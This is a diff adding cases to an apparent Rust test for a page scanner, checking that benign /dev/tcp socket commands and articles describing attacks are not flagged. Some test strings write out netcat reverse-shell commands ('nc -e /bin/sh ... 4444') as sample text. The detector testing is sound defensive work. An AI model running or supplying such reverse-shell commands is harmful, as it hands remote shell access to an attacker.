@@ -48,4 +48,17 @@ fn honest_commands_and_articles_about_attacks() {
         "Never paste `nc -e /bin/sh host 4444` from a forum into your terminal.",
         None,
     );
+    // Bash's sockets to check a port or fetch a page hand no shell over.
+    on_page(
+        "Check the port with `timeout 1 bash -c '</dev/tcp/10.0.0.7/5432'`.",
+        None,
+    );
+    on_page(
+        "exec 3<>/dev/tcp/example.com/80; echo -e 'GET / HTTP/1.0\\r\\n' >&3",
+        None,
+    );
+    on_page(
+        "Netcat as a backdoor: nc -e /bin/sh 10.0.0.9 4444 listens for the attacker.",
+        None,
+    );
 }
